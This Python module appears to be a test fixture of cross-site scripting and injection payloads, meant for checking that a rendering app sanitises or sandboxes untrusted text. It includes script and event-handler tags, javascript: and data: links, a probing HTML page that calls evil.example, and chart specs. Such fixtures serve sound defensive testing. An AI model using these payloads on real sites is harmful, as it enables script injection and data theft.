"""Texts that would run a script, open a dialog or ask another host, were they ever taken for markup or code."""

_SAY = "alert(1)"
_ASK = "fetch('https://evil.example/')"

_HANDLERS = [
    f'<{tag} {event}="{_SAY}"{rest}>'
    for tag, event, rest in (
        ("img src=x", "onerror", ""),
        ("img src=x", "OnErRoR", "/"),
        ("svg", "onload", ""),
        ("svg/onload=alert(1)//", "onfocus", ""),
        ("body", "onload", ""),
        ("body", "onpageshow", ""),
        ("input autofocus", "onfocus", ""),
        ("select autofocus", "onfocus", ""),
        ("textarea autofocus", "onfocus", ""),
        ("details open", "ontoggle", ""),
        ("video src=x", "onerror", ""),
        ("audio src=x", "onerror", ""),
        ("video", "oncanplay", "><source src=x onerror=alert(2)"),
        ("iframe src=about:blank", "onload", ""),
        ("object data=x", "onerror", ""),
        ("marquee", "onstart", ""),
        ("div style=animation-name:spinner", "onanimationstart", ""),
        ("div style='transition:all 1s' tabindex=0", "ontransitionend", ""),
        ("a href=# autofocus tabindex=0", "onfocus", ""),
        ("link rel=stylesheet href=x", "onerror", ""),
        ("style", "onload", ""),
        ("img srcset='x 1x'", "onerror", ""),
        ("image src=x", "onerror", ""),
        ("math href=javascript:alert(1)", "onclick", ""),
    )
]
_SCRIPTS = [
    f"<script>{_SAY}</script>",
    f"<script>{_ASK}</script>",
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js></script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x20type='text/javascript'>alert(1);</script>",
    "<script/src=data:,alert(1)></script>",
    "<script type=module>import('https://evil.example/x.js')</script>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text x=9 y=9>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1) />#x'></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>x",
    "<isindex action=javascript:alert(1) type=submit>",
]
_LOADS = [
    "<img src=https://evil.example/pixel.png>",
    "<img src='//evil.example/pixel.png'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/x>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<div style=\"background:url('https://evil.example/x')\">x</div>",
    "<iframe src=https://evil.example/></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    "<embed src=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<video poster=https://evil.example/x.png></video>",
    "<audio src=https://evil.example/x.mp3 autoplay></audio>",
    "<input type=image src=https://evil.example/x.png>",
    "<table background=https://evil.example/x.png>",
    "<a ping=https://evil.example/ href=#>x</a>",
]
_LINKS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript://example.org/%0aalert(1)",
    "javascript:alert(1)//.png",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "view-source:https://evil.example/",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](JAVASCRIPT&#58;alert(1))",
    "[x]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](x)',
    "<javascript:alert(1)>",
    '[x](https://example.org "\\" onmouseover=alert(1)")',
    "[x](data:text/html,<script>alert(1)</script>)",
]
_CODE = [
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "{{7*7}}",
    "#{7*7}",
    "<%= 7*7 %>",
    "__import__('os').system('true')",
    "';alert(1);//",
    '";alert(1);//',
    "\\';alert(1);//",
    "`;alert(1);//",
    "</div></div><img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    "＜img src=x onerror=alert(1)＞",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\href{javascript:alert(1)}{x}$$",
    "$\\htmlData{x=1}{y}$",
    "$\\includegraphics{https://evil.example/x.png}$",
    ":red[<img src=x onerror=alert(1)>]",
    ":material/<img src=x onerror=alert(1)>:",
    "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]\n```",
    "__proto__",
    "constructor",
    '=HYPERLINK("https://evil.example/")',
    "\u202e<script>alert(1)</script>",
    "<\u200bscript>alert(1)</script>",
]
PAYLOADS = [*_HANDLERS, *_SCRIPTS, *_LOADS, *_LINKS, *_CODE]
REFERENCES = [*_LINKS, *(f"figures/{text.replace('/', '')}.png" for text in (*_HANDLERS[:4], *_SCRIPTS[:2], _CODE[12]))]
"""Those that mean something as the address of a figure."""

SVG = b"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="60"
  onload="alert(1)"><script>alert(2)</script><script href="https://evil.example/x.js"/>
  <image href="https://evil.example/x.png" width="9" height="9"/><style>@import 'https://evil.example/x.css';</style>
  <animate onbegin="alert(3)" attributeName="x" dur="1s"/><rect width="90" height="60" fill="#2f6db3"/>
  <foreignObject width="90" height="60"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:alert(4)"/>
  <img src="x" onerror="alert(5)"/></body></foreignObject>
  <a xlink:href="javascript:alert(6)"><text y="30">drawn</text></a></svg>"""

PAGE = b"""<!doctype html><html><body><p id="said">began</p><script>
  const tried = [];
  const attempt = (what, how) => { try { how(); tried.push(what); } catch { /* refused */ } };
  attempt("cookie", () => document.cookie.length);
  attempt("storage", () => localStorage.setItem("x", "1"));
  attempt("parent", () => parent.document.title);
  attempt("top", () => { if (top.location.href) throw 0; });
  alert(1); confirm(2); prompt(3);
  window.open("https://evil.example/");
  fetch("https://evil.example/").catch(() => {});
  new Image().src = "https://evil.example/x.png";
  document.body.insertAdjacentHTML("beforeend", "<iframe src='https://evil.example/'></iframe>" +
    "<form action='https://evil.example/' target='_top'><input name='x'></form>");
  document.forms[0].submit();
  parent.postMessage({ curation: { labelsByUnit: {} } }, "*");
  parent.postMessage({ sandboxed: "<img src=x onerror=alert(1)>" }, "*");
  said.textContent = `done: ${tried.join(" ")}`;
</script></body></html>"""

CHART = {
    "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
    "title": "<img src=x onerror=alert(1)>",
    "usermeta": {
        "embedOptions": {
            "actions": True,
            "sourceHeader": "<script>alert(1)</script>",
            "patch": "https://evil.example/p.json",
        }
    },
    "data": {"values": [{"a": text, "b": n} for n, text in enumerate(PAYLOADS[:12])]},
    "mark": {"type": "bar", "tooltip": True, "href": "javascript:alert(1)"},
    "encoding": {
        "x": {"field": "a", "type": "nominal", "axis": {"labelExpr": "datum.label"}},
        "y": {"field": "b", "type": "quantitative", "title": "<script>alert(1)</script>"},
        "href": {"value": "javascript:alert(1)"},
        "url": {"value": "https://evil.example/x.png"},
    },
}
ESCAPE = CHART | {"params": [{"name": "hover", "expr": "constructor.constructor('alert(1)')()"}]}
"""The same with an expression that wants out of Vega's language; Vega refuses the whole chart."""
